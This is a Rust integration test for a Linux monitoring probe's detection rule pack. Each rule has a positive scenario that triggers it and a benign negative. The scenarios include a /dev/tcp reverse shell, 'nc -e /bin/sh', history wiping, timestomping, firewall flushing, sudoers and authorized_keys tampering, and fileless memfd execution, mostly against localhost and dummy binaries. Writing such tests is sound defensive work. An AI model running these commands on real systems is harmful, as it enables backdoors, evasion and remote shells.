//! The rule pack (`rules/`) against real behaviour: one probe run with the whole pack loaded,
//! every scenario caused for real by a process tree of its own, then for each rule: its
//! positive scenario raised its alert, and the normal behaviour next to it did not.
use std::{
    collections::HashMap,
    io::Read as _,
    net::TcpListener,
    os::unix::fs::PermissionsExt as _,
    path::{Path, PathBuf},
    process::{Command, Stdio},
    sync::OnceLock,
    time::Duration,
};

use serde_json::Value;
use tprobe_tests::{schema_violations, Probe};

fn pack() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules")
}

/// One scenario: a shell script run as the root of its own process tree.
struct Scenario {
    rule: &'static str,
    positive: bool,
    script: String,
}

/// What one probe run with the pack saw.
struct Run {
    scenarios: Vec<Scenario>,
    lines: Vec<Value>,
    /// Scenario marker -> entity ids of its whole process tree.
    trees: HashMap<String, Vec<String>>,
}

const TEMP: &str = "/tmp/tprobe-rulepack";
/// Outside /tmp: a program with a dot name, and one in a home's dot-folder.
const HIDDEN_NAME_DIR: &str = "/var/lib/tprobe-rulepack";
const HOME_TOOLS_DIR: &str = "/root/.tprobe-rulepack/bin";

fn fake(dir: &Path, name: &str) -> String {
    std::fs::create_dir_all(dir).unwrap();
    let p = dir.join(name);
    std::fs::copy("/bin/true", &p).unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
    p.display().to_string()
}

fn scenarios(port: u16) -> Vec<Scenario> {
    let t = Path::new(TEMP);
    let bin = t.join("bin");
    let f = |n: &str| fake(&bin, n);
    let home = t.join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::create_dir_all(&bin).unwrap();
    for (p, body) in [
        (home.join(".bash_history"), "ls\n"),
        (home.join("notes.txt"), "x\n"),
        (home.join(".ssh/authorized_keys"), ""),
        (t.join("f"), ""),
    ] {
        std::fs::write(p, body).unwrap();
    }
    fake(&t.join(".hidden"), "tool");
    fake(&t.join("visible"), "tool");
    std::fs::copy("/bin/dash", bin.join("nginx")).unwrap();
    std::fs::copy("/bin/dash", bin.join("notnginx")).unwrap();
    std::fs::create_dir_all("/etc/cron.d").unwrap();
    std::fs::create_dir_all("/etc/sudoers.d").unwrap();
    std::fs::create_dir_all("/etc/systemd/system").unwrap();
    std::fs::write("/etc/cron.d/tprobe-rulepack", "").unwrap();
    std::fs::write("/etc/sudoers.d/tprobe-rulepack", "").unwrap();
    let h = home.display();
    let tt = t.display();
    let sc = |rule, positive, script: String| Scenario {
        rule,
        positive,
        script,
    };
    let py_connect = |n: u16| {
        format!(
            "python3 -c 'import socket\nfor p in range(40000, 40000 + {n}):\n    s = socket.socket(); s.settimeout(0.2)\n    try: s.connect((\"127.0.0.1\", p))\n    except OSError: pass\n    s.close()'"
        )
    };
    vec![
        sc("5f1c0001", true, format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; echo hi >&3; exec 3>&-'")),
        sc("5f1c0001", false, "bash -c 'echo /dev/null > /dev/null'".into()),
        sc("5f1c0002", true, format!("{} -e /bin/sh 127.0.0.1 9", f("nc"))),
        sc("5f1c0002", false, format!("{} -z 127.0.0.1 9", f("nc"))),
        sc("5f1c0003", true, format!("{} tprobe_test.ko", f("insmod"))),
        sc("5f1c0003", false, format!("{} --dry-run tprobe_test", f("modprobe"))),
        sc("5f1c0004", true, format!("chmod 4755 {tt}/f")),
        sc("5f1c0004", false, format!("chmod 755 {tt}/f")),
        sc("5f1c0005", true, "touch /etc/cron.d/tprobe-rulepack-new; rm -f /etc/cron.d/tprobe-rulepack-new".into()),
        sc("5f1c0005", false, format!("touch {tt}/cron.d-lookalike")),
        sc("5f1c0006", true, "echo '# x' >> /etc/cron.d/tprobe-rulepack".into()),
        sc("5f1c0006", false, format!("echo x >> {tt}/f")),
        sc("5f1c0007", true, "touch /etc/systemd/system/tprobe-rulepack.service; rm -f /etc/systemd/system/tprobe-rulepack.service".into()),
        sc("5f1c0007", false, format!("touch {tt}/tprobe-rulepack.service")),
        sc("5f1c0008", true, "test -e /etc/ld.so.preload || { touch /etc/ld.so.preload; : >> /etc/ld.so.preload; rm -f /etc/ld.so.preload; }".into()),
        sc("5f1c0008", false, format!("touch {tt}/ld.so.preload")),
        sc("5f1c0009", true, "test -e /etc/ld.so.preload || { touch /etc/ld.so.preload; : >> /etc/ld.so.preload; rm -f /etc/ld.so.preload; }".into()),
        sc("5f1c0009", false, format!(": >> {tt}/ld.so.preload")),
        sc("5f1c0010", true, format!(": > {h}/.bash_history")),
        sc("5f1c0010", false, format!("echo ls >> {h}/.bash_history")),
        sc("5f1c0011", true, format!("cp {h}/notes.txt {h}/.zsh_history; rm {h}/.zsh_history")),
        sc("5f1c0011", false, format!("cp {h}/notes.txt {h}/notes2.txt; rm {h}/notes2.txt")),
        sc("5f1c0012", true, format!("touch -d '2001-01-01' {tt}/f")),
        sc("5f1c0012", false, format!("touch {tt}/f")),
        sc("5f1c0013", true, format!("{} -i lo -c 1", f("tcpdump"))),
        sc("5f1c0013", false, "cat /proc/net/dev > /dev/null".into()),
        sc("5f1c0014", true, f("dropped")),
        sc("5f1c0014", false, "/bin/true".into()),
        sc("5f1c0015", true, format!("{tt}/.hidden/tool")),
        sc("5f1c0015", false, format!("{tt}/visible/tool")),
        sc("5f1c0015", true, fake(Path::new(HIDDEN_NAME_DIR), ".updater")),
        // A toolchain in a home's dot-folder (~/.cargo/bin, ~/.pyenv) is not hidden.
        sc("5f1c0015", false, fake(Path::new(HOME_TOOLS_DIR), "tool")),
        sc("5f1c0016", true, ": >> /etc/sudoers.d/tprobe-rulepack".into()),
        sc("5f1c0016", false, format!(": >> {tt}/sudoers")),
        sc("5f1c0017", true, format!("echo 'ssh-ed25519 AAAA test' >> {h}/.ssh/authorized_keys")),
        sc("5f1c0017", false, format!("echo '127.0.0.1 ssh-ed25519 AAAA' >> {h}/.ssh/known_hosts")),
        sc("5f1c0018", true, ": >> /etc/group".into()),
        sc("5f1c0018", false, "getent group root > /dev/null".into()),
        sc("5f1c0019", true, format!("{} tprobe-rulepack", f("useradd"))),
        sc("5f1c0019", false, "id -u > /dev/null".into()),
        sc("5f1c0020", true, format!("{} -F", f("iptables"))),
        sc("5f1c0020", false, format!("{} -L -n", f("iptables"))),
        sc("5f1c0021", true, format!("{} +i {tt}/f", f("chattr"))),
        sc("5f1c0021", false, format!("{} -i {tt}/f", f("chattr"))),
        sc("5f1c0022", true, "echo dHJ1ZQo= | base64 -d > /dev/null".into()),
        sc("5f1c0022", false, "echo true | base64 > /dev/null".into()),
        sc("5f1c0023", true, format!("{} -o stratum+tcp://127.0.0.1:3333", f("xmrig"))),
        sc("5f1c0023", false, format!("{} -o tcp://127.0.0.1:3333", f("miner-less"))),
        sc("5f1c0024", true, format!("{}/nginx -c '/bin/sh -c true; true'", bin.display())),
        sc("5f1c0024", false, format!("{}/notnginx -c '/bin/sh -c true; true'", bin.display())),
        sc("5f1c0025", true, format!("{} cap_setuid+ep {tt}/f", f("setcap"))),
        sc("5f1c0025", false, format!("{} -v cap_setuid+ep {tt}/f", f("setcap"))),
        // 5f1c0026 and 5f1c0027 need a container: see containers_alert_on_namespace_tools_and_package_managers.
        sc("5f1c0026", false, format!("{} --target 1 true", f("nsenter"))),
        sc("5f1c0027", false, format!("{} install curl", f("apt-get"))),
        sc("5f1c0040", false, "nsenter -t 1 -m true".into()),
        sc("5f1c0028", true, format!("{} -s -o /tmp/tprobe-rulepack-dl http://127.0.0.1:9/", f("curl"))),
        sc("5f1c0028", false, format!("{} -s http://127.0.0.1:9/", f("curl"))),
        sc("5f1c0029", true, "mkdir -p /lib/modules/tprobe-rulepack && touch /lib/modules/tprobe-rulepack/x.ko; rm -rf /lib/modules/tprobe-rulepack".into()),
        sc("5f1c0029", false, format!("touch {tt}/x.ko")),
        sc("5f1c0030", true, format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; exec 3>&-'")),
        sc("5f1c0030", false, format!("python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port})).close()'")),
        sc("5f1c0031", true, "touch /var/log/tprobe-rulepack.log; rm /var/log/tprobe-rulepack.log".into()),
        sc("5f1c0031", false, "touch /var/log/tprobe-rulepack.log.1; rm /var/log/tprobe-rulepack.log.1".into()),
        sc("5f1c0033", true, py_connect(25)),
        sc("5f1c0033", false, py_connect(5)),
        sc("5f1c0034", true, "sleep 3 & strace -o /dev/null -p $! & sleep 1; kill $! 2>/dev/null; wait".into()),
        sc("5f1c0034", false, "cat /proc/self/status > /dev/null".into()),
        sc("5f1c0035", true, "python3 -c 'import os\nfd = os.memfd_create(\"payload\")\nos.write(fd, open(\"/bin/true\", \"rb\").read())\nos.execv(\"/proc/self/fd/%d\" % fd, [\"payload\"])'".into()),
        sc("5f1c0035", false, "python3 -c 'import os; os.execv(\"/bin/true\", [\"true\"])'".into()),
        sc("5f1c0036", true, "setpriv --reuid 65534 --regid 65534 --clear-groups perl -e '$< = 0; $> = 0'".into()),
        sc("5f1c0036", false, "perl -e '$< = 0'".into()),
        sc("5f1c0037", true, format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; exec 1>&3; exec 3>&-; true'")),
        sc("5f1c0037", false, format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; exec 3>&-'")),
        sc("5f1c0038", true, "python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()'".into()),
        sc("5f1c0038", false, "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close()'".into()),
        sc("5f1c0039", true, "bpftrace -e 'BEGIN { exit(); }' > /dev/null".into()),
        sc("5f1c0039", false, "bpftrace --version > /dev/null".into()),
        sc("5f1c0041", true, format!("touch -d '2001-01-01' {tt}/f")),
        sc("5f1c0041", false, format!("touch {tt}/f")),
    ]
}

fn marker(i: usize, s: &Scenario) -> String {
    format!(
        "tprobe-rulepack-{}-{}-{i}",
        s.rule,
        if s.positive { "pos" } else { "neg" }
    )
}

/// The one run every test here reads; a failure in it is reported by each test, not retried.
fn run() -> &'static Run {
    static RUN: OnceLock<Result<Run, String>> = OnceLock::new();
    let r = RUN.get_or_init(|| {
        std::panic::catch_unwind(run_pack).map_err(|e| {
            e.downcast_ref::<String>()
                .cloned()
                .or_else(|| e.downcast_ref::<&str>().map(|s| s.to_string()))
                .unwrap_or_default()
        })
    });
    match r {
        Ok(run) => run,
        Err(e) => panic!("the rule pack run failed: {e}"),
    }
}

fn run_pack() -> Run {
    {
        let _ = std::fs::remove_dir_all(TEMP);
        // A listener for the /dev/tcp scenarios: accepts and drains, so connects succeed.
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        std::thread::spawn(move || {
            for c in listener.incoming().flatten() {
                let mut c = c;
                let mut buf = [0u8; 64];
                let _ = c.read(&mut buf);
            }
        });
        let all = scenarios(port);
        let rules = pack();
        let probe = Probe::start(&["--rules", rules.to_str().unwrap(), "--events", "all"]);
        for (i, s) in all.iter().enumerate() {
            // The marker is the shell's $0: its exec event names the tree's root.
            let st = Command::new("/bin/sh")
                .args(["-c", &s.script, &marker(i, s)])
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .status()
                .unwrap();
            let _ = st;
        }
        std::thread::sleep(Duration::from_secs(2));
        let stopped = probe.stop();
        assert!(stopped.status.success(), "{}", stopped.stderr);
        let _ = std::fs::remove_file("/etc/cron.d/tprobe-rulepack");
        let _ = std::fs::remove_file("/etc/sudoers.d/tprobe-rulepack");
        let _ = std::fs::remove_dir_all(TEMP);
        let _ = std::fs::remove_dir_all(HIDDEN_NAME_DIR);
        let _ = std::fs::remove_dir_all("/root/.tprobe-rulepack");
        let lines = stopped.lines;
        // entity -> parent entity, from exec and fork events (kernel facts).
        let mut parent: HashMap<String, String> = HashMap::new();
        let mut roots: HashMap<String, String> = HashMap::new();
        for v in &lines {
            let me = v["process"]["entity_id"].as_str().unwrap_or("");
            if v["kind"] == "process.fork" {
                if let Some(c) = v["child"]["entity_id"].as_str() {
                    parent.insert(c.to_owned(), me.to_owned());
                }
            }
            if v["kind"] == "process.exec" {
                if let Some(p) = v["parent"]["entity_id"].as_str() {
                    parent.entry(me.to_owned()).or_insert_with(|| p.to_owned());
                }
                if let Some(m) = v["process"]["args"]
                    .as_array()
                    .into_iter()
                    .flatten()
                    .filter_map(Value::as_str)
                    .find(|a| a.starts_with("tprobe-rulepack-"))
                {
                    roots.insert(me.to_owned(), m.to_owned());
                }
            }
        }
        let mut trees: HashMap<String, Vec<String>> = HashMap::new();
        let mut entities: Vec<&String> = parent.keys().collect();
        entities.extend(roots.keys());
        for e in entities {
            let mut cur = e.clone();
            for _ in 0..64 {
                if let Some(m) = roots.get(&cur) {
                    trees.entry(m.clone()).or_default().push(e.clone());
                    break;
                }
                match parent.get(&cur) {
                    Some(p) => cur = p.clone(),
                    None => break,
                }
            }
        }
        Run {
            scenarios: all,
            lines,
            trees,
        }
    }
}

/// Alerts of `rule` raised by the process tree of each scenario of that rule.
fn check(rule: &str) {
    let r = run();
    let mut checked = 0;
    for (i, s) in r
        .scenarios
        .iter()
        .enumerate()
        .filter(|(_, s)| s.rule == rule)
    {
        let m = marker(i, s);
        let tree = r.trees.get(&m).cloned().unwrap_or_default();
        let alerts: Vec<&Value> = r
            .lines
            .iter()
            .filter(|v| v["kind"] == "alert")
            .filter(|v| {
                v["alert"]["rule"]["id"]
                    .as_str()
                    .is_some_and(|id| id.starts_with(rule))
            })
            .filter(|v| {
                v["process"]["entity_id"]
                    .as_str()
                    .is_some_and(|e| tree.iter().any(|t| t == e))
            })
            .collect();
        if s.positive {
            assert!(
                !tree.is_empty(),
                "{m}: its process tree was not seen ({})",
                s.script
            );
            assert!(
                !alerts.is_empty(),
                "{m}: no alert of {rule} for `{}`",
                s.script
            );
            for a in &alerts {
                assert_eq!(schema_violations(a), None);
                assert_eq!(a["alert"]["source"], "sigma");
                assert!(
                    a["alert"]["attack"]["techniques"]
                        .as_array()
                        .is_some_and(|t| !t.is_empty()),
                    "{a}"
                );
            }
        } else {
            assert!(alerts.is_empty(), "{m}: `{}` gave {alerts:#?}", s.script);
        }
        checked += 1;
    }
    assert!(checked > 0, "no scenario for {rule}");
}

macro_rules! rule_tests {
    ($($name:ident => $id:literal),* $(,)?) => {
        $(#[test] fn $name() { check($id); })*
    };
}

rule_tests! {
    pack_reverse_shell_dev_tcp => "5f1c0001",
    pack_netcat_exec => "5f1c0002",
    pack_module_tool => "5f1c0003",
    pack_setuid_bit_set => "5f1c0004",
    pack_cron_created => "5f1c0005",
    pack_cron_modified => "5f1c0006",
    pack_systemd_unit_created => "5f1c0007",
    pack_ld_so_preload_created => "5f1c0008",
    pack_ld_so_preload_modified => "5f1c0009",
    pack_history_truncated => "5f1c0010",
    pack_history_deleted => "5f1c0011",
    pack_touch_timestomp => "5f1c0012",
    pack_packet_capture_tool => "5f1c0013",
    pack_exec_from_temp => "5f1c0014",
    pack_hidden_executable => "5f1c0015",
    pack_sudoers_modified => "5f1c0016",
    pack_authorized_keys_modified => "5f1c0017",
    pack_account_files_modified => "5f1c0018",
    pack_user_account_tool => "5f1c0019",
    pack_firewall_flushed => "5f1c0020",
    pack_immutable_attribute => "5f1c0021",
    pack_base64_decode => "5f1c0022",
    pack_crypto_miner => "5f1c0023",
    pack_webserver_shell => "5f1c0024",
    pack_setcap => "5f1c0025",
    pack_download_to_temp => "5f1c0028",
    pack_kernel_module_file_created => "5f1c0029",
    pack_shell_connects_out => "5f1c0030",
    pack_log_deleted => "5f1c0031",
    pack_port_scan_correlation => "5f1c0033",
    pack_ptrace_attach => "5f1c0034",
    pack_fileless_exec => "5f1c0035",
    pack_non_root_asks_root => "5f1c0036",
    pack_socket_onto_stdio => "5f1c0037",
    pack_packet_socket => "5f1c0038",
    pack_bpf_program_loaded => "5f1c0039",
    pack_timestomp => "5f1c0041",
}

/// The correlation's base rule feeds it and raises nothing of its own.
#[test]
fn pack_correlation_base_rule_is_silent() {
    let r = run();
    let base: Vec<&Value> = r
        .lines
        .iter()
        .filter(|v| {
            v["kind"] == "alert"
                && v["alert"]["rule"]["id"] == "5f1c0032-7470-4000-8000-000000000032"
        })
        .collect();
    assert!(base.is_empty(), "{base:#?}");
    let scan = r
        .lines
        .iter()
        .find(|v| {
            v["kind"] == "alert"
                && v["alert"]["rule"]["id"] == "5f1c0033-7470-4000-8000-000000000033"
        })
        .expect("a port scan alert");
    let matched = scan["alert"]["matched"]
        .as_array()
        .expect("a list of contributing events");
    assert!(matched.len() >= 10, "{scan}");
    assert!(
        scan["alert"]["group"]["process.entity_id"].is_string(),
        "{scan}"
    );
}

/// The container rules: a namespace tool and a package manager run inside a real containerd
/// container alert; the same programs on the host (the negative scenarios above) do not.
#[test]
fn pack_container_rules_alert_inside_a_container_only() {
    use tprobe_tests::containerd::{unique, Containerd, IMAGE};
    // The host side first: the negatives of the shared run.
    check("5f1c0026");
    check("5f1c0027");
    check("5f1c0040");
    let ctrd = Containerd::start();
    let sock = ctrd.sock.to_str().unwrap().to_owned();
    let rules = pack();
    let probe = Probe::start(&[
        "--rules",
        rules.to_str().unwrap(),
        "--events",
        "alert,process.exec",
        "--cri-socket",
        &sock,
        "--containerd-socket",
        &sock,
        "--containerd-namespace",
        &ctrd.ns,
        "--docker-socket",
        "none",
    ]);
    let id = unique("tprobe-rulepack");
    // Copies of busybox under the tools' names: real files, so the image run is the tool's.
    ctrd.ctr(
        &ctrd.ns,
        &[
            "run",
            "--rm",
            IMAGE,
            &id,
            "sh",
            "-c",
            "cp /bin/busybox /tmp/nsenter; cp /bin/busybox /tmp/apt-get; /tmp/nsenter --help; /tmp/apt-get --help; nsenter -t 1 -m true; ls / > /dev/null; sleep 2",
        ],
    );
    for rule in ["5f1c0026", "5f1c0027", "5f1c0040"] {
        let a = probe
            .wait_for(tprobe_tests::WAIT, |v| {
                v["kind"] == "alert"
                    && v["container"]["id"] == id.as_str()
                    && v["alert"]["rule"]["id"].as_str().is_some_and(|r| r.starts_with(rule))
            })
            .unwrap_or_else(|| {
                let execs: Vec<Value> = probe
                    .lines()
                    .into_iter()
                    .filter(|v| v["container"]["id"] == id.as_str())
                    .map(|v| serde_json::json!({"kind": v["kind"], "exe": v["process"]["exe"], "args": v["process"]["args"]}))
                    .collect();
                let ids: std::collections::BTreeSet<String> = probe
                    .lines()
                    .iter()
                    .filter_map(|v| v["container"]["id"].as_str().map(str::to_owned))
                    .collect();
                panic!("no alert of {rule} in the container {id}; its events: {execs:#?}; containers seen: {ids:?}; alerts: {:#?}", probe.lines().iter().filter(|v| v["kind"] == "alert").map(|v| v.to_string()).collect::<Vec<_>>())
            });
        assert_eq!(schema_violations(&a), None);
    }
    let st = probe.stop();
    // `ls` in the same container is normal: nothing else of these rules.
    let n = st
        .lines
        .iter()
        .filter(|v| {
            v["kind"] == "alert"
                && v["alert"]["rule"]["id"]
                    .as_str()
                    .is_some_and(|r| r.starts_with("5f1c0026") || r.starts_with("5f1c0027"))
        })
        .count();
    assert_eq!(
        n,
        2,
        "{:#?}",
        st.lines
            .iter()
            .filter(|v| v["kind"] == "alert")
            .collect::<Vec<_>>()
    );
}
